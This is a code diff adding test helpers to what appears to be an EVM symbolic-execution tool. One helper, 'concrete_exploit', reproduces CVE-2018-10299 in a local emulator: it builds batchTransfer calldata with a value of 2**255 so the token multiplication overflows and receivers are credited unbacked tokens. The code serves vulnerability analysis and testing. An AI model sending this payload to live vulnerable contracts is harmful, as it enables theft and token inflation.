@@ -180,3 +180,38 @@ def mul_address() -> int:
     ops = [i["opcode"] for i in il]
     k = next(k for k in range(len(ops) - 3) if ops[k:k + 4] == ["MLOAD", "DUP2", "DUP2", "MUL"])
     return il[k + 3]["address"]
+
+
+def batch_transfer_calldata(receivers, value: int) -> bytes:
+    """ABI: batchTransfer(address[] _receivers, uint256 _value)."""
+    head = selector("batchTransfer(address[],uint256)").to_bytes(4, "big")
+    words = [0x40, value, len(receivers)] + list(receivers)
+    return head + b"".join(w.to_bytes(32, "big") for w in words)
+
+
+def balance_slot(address: int) -> int:
+    return int.from_bytes(keccak256(address.to_bytes(32, "big") + (1).to_bytes(32, "big")), "big")
+
+
+def concrete_exploit(dev):
+    """CVE-2018-10299 as one concrete transaction: the attacker (no tokens)
+    calls batchTransfer([r1, r2], 2**255); cnt * _value wraps to 0, every
+    require passes, and each receiver is credited 2**255.  Returns the storage
+    of the token account after the call (one open world state)."""
+    from creation_util import ATTACKER, CREATOR
+    from mythril_amd.laser import (Account, LaserEVM, WorldState, execute_contract_creation,
+                                   execute_message_call, generate_contract_address)
+    ws = WorldState()
+    creator = Account(CREATOR, concrete_storage=True)
+    creator.set_balance(10 ** 20)
+    ws.put_account(creator)
+    vm = LaserEVM(device=dev)
+    vm.open_states = [ws]
+    address = generate_contract_address(CREATOR, 0)
+    execute_contract_creation(vm, None, CREATOR, CREATOR, creation(), gas_limit=8_000_000, gas_price=1, value=0,
+                              track_gas=True)
+    data = batch_transfer_calldata([0xA11CE, 0xB0B], 1 << 255)
+    execute_message_call(vm, callee_address=address, caller_address=ATTACKER, origin_address=ATTACKER, data=data,
+                         gas_limit=8_000_000, gas_price=1, value=0, track_gas=True)
+    assert len(vm.open_states) == 1, len(vm.open_states)
+    return sorted(vm.open_states[0][address].storage.items())
